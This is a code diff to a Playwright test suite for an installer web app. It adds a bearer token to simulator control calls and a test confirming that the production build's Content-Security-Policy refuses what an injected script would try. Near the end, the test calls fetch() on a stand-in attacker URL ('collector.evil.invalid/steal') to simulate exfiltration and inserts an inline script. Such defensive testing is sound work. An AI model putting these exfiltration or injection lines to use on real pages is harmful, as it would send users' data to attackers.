@@ -2,6 +2,7 @@ import { expect, test, type APIRequestContext } from '@playwright/test';
 import { texts } from '../../app/domain/texts';
 import { productionNetwork } from '../../playwright.production.config';
 import { signIn } from '../e2e/support/fixtures';
+import { watchCspViolations } from './csp';
 
 /**
  * The production build against the simulator server over the real network: real HTTP with CORS
@@ -14,13 +15,17 @@ const MAPLE_COURT = 'cmty-7d2f9a0e-maple-court';
 const UNIT_ADDRESS = 1008;
 
 async function control<R>(request: APIRequestContext, call: string, ...args: unknown[]): Promise<R> {
-  const response = await request.post(`${productionNetwork.simulatorUrl}/__simulator/control`, { data: { call, args } });
+  const response = await request.post(`${productionNetwork.simulatorUrl}/__simulator/control`, {
+    data: { call, args },
+    headers: { Authorization: `Bearer ${productionNetwork.controlToken}` },
+  });
   expect(response.status(), await response.text()).toBe(200);
   return ((await response.json()) as { result: R }).result;
 }
 
 
-test('sign in, open a unit, include a device through the stream, close the work ticket', async ({ page, request }) => {
+test('sign in, open a unit, include a device through the stream, close the work ticket, all under the Content-Security-Policy', async ({ page, request }) => {
+  const violations = await watchCspViolations(page);
   const apiPaths: string[] = [];
   const sockets: string[] = [];
   page.on('request', (sent) => {
@@ -72,4 +77,31 @@ test('sign in, open a unit, include a device through the stream, close the work 
   expect(apiPaths).toEqual(expect.arrayContaining(['/api/v4/installer/login/', '/api/v4/hub/HB2-1001204/inclusion/', '/api/v4/installer/workticket/']));
   expect(sockets.map((url) => new URL(url).pathname)).toEqual(['/stream']);
   expect(await control<unknown[]>(request, 'stream.connections')).toHaveLength(0);
+  expect(violations).toEqual([]);
+});
+
+test('the production build carries a Content-Security-Policy that admits its API and stream and refuses anything else', async ({ page }) => {
+  const violations = await watchCspViolations(page);
+  await page.goto('/login');
+  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
+  await expect(meta).toHaveAttribute('content', /default-src 'self'/);
+  const policy = await meta.getAttribute('content');
+  const simulatorHost = new URL(productionNetwork.simulatorUrl).host;
+  expect(policy).toContain("script-src 'self';");
+  expect(policy).toContain(`connect-src http://${simulatorHost} ws://${simulatorHost};`);
+  // MUI's styles, which emotion adds at run time, apply under the policy.
+  await expect(page.getByRole('button', { name: texts.signIn.submit, exact: true })).toHaveCSS('text-transform', 'uppercase');
+  expect(violations).toEqual([]);
+
+  // What an injected script would try: send data elsewhere, or run inline code.
+  const sent = await page.evaluate(() => fetch('https://collector.evil.invalid/steal').then(() => 'sent', () => 'refused'));
+  expect(sent).toBe('refused');
+  const ran = await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.__inlineRan = true';
+    document.head.append(script);
+    return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
+  });
+  expect(ran).toBe(false);
+  await expect.poll(() => violations.filter((violation) => violation.directive !== 'console').map((violation) => violation.directive)).toEqual(['connect-src', 'script-src-elem']);
 });
